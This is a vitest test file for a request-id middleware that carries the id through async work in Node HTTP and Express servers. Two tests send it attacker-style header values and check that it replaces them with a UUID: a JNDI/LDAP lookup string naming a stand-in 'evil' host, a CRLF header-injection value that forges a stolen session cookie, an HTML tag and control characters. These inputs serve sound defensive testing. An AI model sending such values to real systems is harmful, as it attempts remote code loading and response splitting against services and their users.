import { once } from 'node:events';
import { createServer, IncomingMessage, type RequestListener, type Server, ServerResponse } from 'node:http';
import { type AddressInfo, connect, Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import express from 'express';
import { afterEach, describe, expect, test, vi } from 'vitest';
import { type LogContext, logContext } from '../src/context.ts';
import { requestContext } from '../src/http.ts';
import { postSlowBody } from './slow-body.ts';

const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;

const servers: Server[] = [];
afterEach(async () => {
  for (const server of servers.splice(0)) {
    server.closeAllConnections();
    await new Promise<void>((resolve) => server.close(() => resolve()));
  }
});

async function listen(handler: RequestListener): Promise<string> {
  const server = createServer(handler);
  servers.push(server);
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

/** The context seen at each step of a request: synchronously, after await, in timers and in work left running. */
async function everywhere(): Promise<Record<string, LogContext | undefined>> {
  const seen: Record<string, LogContext | undefined> = { sync: logContext() };
  await sleep(5);
  seen.afterAwait = logContext();
  await new Promise<void>((resolve) =>
    setTimeout(() => {
      seen.timeout = logContext();
      resolve();
    }, 1),
  );
  await new Promise<void>((resolve) =>
    setImmediate(() => {
      seen.immediate = logContext();
      resolve();
    }),
  );
  return seen;
}

/** An HTTP request written byte for byte, for headers fetch refuses to send. */
async function rawRequest(port: number, headerLines: string[]): Promise<{ status: number; headers: string }> {
  const socket = connect(port, '127.0.0.1');
  await once(socket, 'connect');
  socket.write(
    `GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n${headerLines.join('\r\n')}\r\n\r\n`,
    'latin1',
  );
  let text = '';
  for await (const chunk of socket) text += (chunk as Buffer).toString('latin1');
  const [head = ''] = text.split('\r\n\r\n');
  return { status: Number(head.split(' ')[1]), headers: head };
}

describe('requestContext: node:http', () => {
  test('the handler and everything it awaits or schedules see the id, which the response echoes', async () => {
    const context = requestContext();
    const leftRunning: (LogContext | undefined)[] = [];
    const url = await listen((req, res) =>
      context(req, res, async () => {
        void sleep(20).then(() => leftRunning.push(logContext()));
        res.end(JSON.stringify(await everywhere()));
      }),
    );
    const response = await fetch(url);
    const id = response.headers.get('x-request-id');
    expect(id).toMatch(UUID);
    const seen = (await response.json()) as Record<string, LogContext>;
    expect(Object.keys(seen)).toEqual(['sync', 'afterAwait', 'timeout', 'immediate']);
    for (const step of Object.values(seen)) expect(step).toEqual({ requestId: id });
    await vi.waitFor(() => expect(leftRunning).toEqual([{ requestId: id }]));
    // Outside the request, nothing.
    expect(logContext()).toBeUndefined();
  });

  test('two concurrent requests, interleaved on purpose, never see each other’s id', async () => {
    const context = requestContext();
    const arrived: (() => void)[] = [];
    const url = await listen((req, res) =>
      context(req, res, async () => {
        const before = logContext()?.requestId;
        // The first to arrive waits for the second; the second then releases it and waits a little.
        await new Promise<void>((resolve) => {
          arrived.push(resolve);
          if (arrived.length === 2) {
            arrived[0]?.();
            setTimeout(resolve, 20);
          }
        });
        res.end(JSON.stringify({ before, after: logContext()?.requestId }));
      }),
    );
    const ask = async (id: string) => (await fetch(url, { headers: { 'x-request-id': id } })).json();
    const [a, b] = await Promise.all([ask('request-a'), ask('request-b')]);
    expect(a).toEqual({ before: 'request-a', after: 'request-a' });
    expect(b).toEqual({ before: 'request-b', after: 'request-b' });
  });

  test('uses a safe incoming id as it is', async () => {
    const context = requestContext();
    const url = await listen((req, res) => context(req, res, () => res.end(logContext()?.requestId)));
    for (const id of ['3f0c2a9e-lb-7', 'Root=1-5759e988-bd862e3fe1be46a994272793', 'a'.repeat(128), 'x:y+z/w=']) {
      const response = await fetch(url, { headers: { 'x-request-id': id } });
      expect(response.headers.get('x-request-id')).toBe(id);
      expect(await response.text()).toBe(id);
    }
  });

  test('replaces attacker-supplied ids sent over the wire (huge, whitespace, quotes, non-ASCII, repeated)', async () => {
    const context = requestContext();
    const url = await listen((req, res) => context(req, res, () => res.end(logContext()?.requestId)));
    const port = Number(new URL(url).port);
    const attacks = [
      [`x-request-id: ${'a'.repeat(129)}`],
      [`x-request-id: ${'a'.repeat(8_000)}`],
      ['x-request-id: abc def'],
      ['x-request-id: abc\tforged=1'],
      ['x-request-id: "quoted"'],
      ['x-request-id: <img src=x>'],
      ['x-request-id: caf\u00e9'],
      ['x-request-id: \u0024{jndi:ldap://evil/a}'],
      ['x-request-id: one', 'x-request-id: two'],
    ];
    for (const lines of attacks) {
      const { status, headers } = await rawRequest(port, lines);
      expect(status).toBe(200);
      const echoed = /\r\nx-request-id: ([^\r]*)/i.exec(headers)?.[1];
      expect(echoed).toMatch(UUID);
    }
  });

  test('replaces ids with newlines or control characters, which never reach the context or the response', () => {
    const context = requestContext();
    const attacks = [
      'abc\ndef',
      'abc\r\nset-cookie: session=stolen',
      'ok\u0000',
      '\u001b[31mred',
      'abc\u2028def',
      '',
      ' ',
      ['a', 'b'],
    ];
    for (const attack of attacks) {
      // Node's own request and response classes: its parser refuses these bytes, a proxy or an
      // HTTP/2 front end may still hand them over.
      const request = new IncomingMessage(new Socket());
      request.headers['x-request-id'] = attack as string;
      const response = new ServerResponse(request);
      let seen: LogContext | undefined;
      context(request, response, () => {
        seen = logContext();
      });
      expect(seen?.requestId).toMatch(UUID);
      expect(response.getHeader('x-request-id')).toBe(seen?.requestId);
    }
  });

  test('options: another header, no trust, a custom generator, no response header, more fields', async () => {
    let n = 0;
    const context = requestContext({
      header: 'X-Correlation-ID',
      trustIncomingId: false,
      generateId: () => `gen-${++n}`,
      responseHeader: false,
      fields: (req) => ({ method: req.method, requestId: 'ignored' }),
    });
    const url = await listen((req, res) => context(req, res, () => res.end(JSON.stringify(logContext()))));
    const response = await fetch(url, { headers: { 'x-correlation-id': 'from-client' } });
    expect(await response.json()).toEqual({ method: 'GET', requestId: 'gen-1' });
    expect(response.headers.get('x-correlation-id')).toBeNull();
  });

  test('a generator that throws or makes an unsafe id gives a random UUID instead', async () => {
    for (const generateId of [
      () => {
        throw new Error('no entropy');
      },
      () => 'bad id\n',
      () => 42 as unknown as string,
    ]) {
      const context = requestContext({ generateId });
      const request = new IncomingMessage(new Socket());
      let seen: string | undefined;
      context(request, new ServerResponse(request), () => {
        seen = logContext()?.requestId;
      });
      expect(seen).toMatch(UUID);
    }
  });

  test('a fields function that throws hands its error to next, still in the context', () => {
    const failure = new Error('no tenant');
    const context = requestContext({
      fields: () => {
        throw failure;
      },
    });
    const request = new IncomingMessage(new Socket());
    let received: unknown;
    let id: string | undefined;
    context(request, new ServerResponse(request), (error) => {
      received = error;
      id = logContext()?.requestId;
    });
    expect(received).toBe(failure);
    expect(id).toMatch(UUID);
  });

  test.each([
    [{ header: 'x request id' }, /requestContext: header must be an HTTP header name/],
    [{ header: '' }, /header/],
    [{ header: 42 }, /header/],
    [{ trustIncomingId: 'true' }, /trustIncomingId must be a boolean/],
    [{ generateId: 'uuid' }, /generateId must be a function/],
    [{ responseHeader: 1 }, /responseHeader must be a boolean/],
    [{ fields: {} }, /fields must be a function/],
    ['x-request-id', /options must be an object/],
  ])('refuses %o with a TypeError', (options, message) => {
    expect(() => requestContext(options as never)).toThrow(TypeError);
    expect(() => requestContext(options as never)).toThrow(message);
  });
});

describe('requestContext: Express', () => {
  test('routes see the context after a body parser read a slowly sent body, and after await', async () => {
    const app = express();
    app.use(requestContext({ fields: (req) => ({ path: req.url }) }));
    app.use(express.json());
    app.post('/messages', async (req, res) => {
      const beforeAwait = logContext();
      await sleep(5);
      res.json({ body: req.body, beforeAwait, afterAwait: logContext() });
    });
    const port = Number(new URL(await listen(app)).port);
    // The body arrives in two parts, 50 ms apart: the parser's callbacks run on later socket events.
    const { head, body } = await postSlowBody(port, '/messages', 'express-1');
    expect(head).toMatch(/\r\nx-request-id: express-1\r\n/i);
    expect(JSON.parse(body)).toEqual({
      body: { text: 'hi' },
      beforeAwait: { requestId: 'express-1', path: '/messages' },
      afterAwait: { requestId: 'express-1', path: '/messages' },
    });
  });

  test('error handlers run in the request’s context', async () => {
    const app = express();
    app.use(requestContext());
    app.get('/', async () => {
      await sleep(1);
      throw new Error('boom');
    });
    app.use((_error: unknown, _req: express.Request, res: express.Response, _next: express.NextFunction) => {
      res.status(500).json(logContext() ?? null);
    });
    const response = await fetch(await listen(app));
    expect(response.status).toBe(500);
    expect(await response.json()).toEqual({ requestId: response.headers.get('x-request-id') });
  });
});
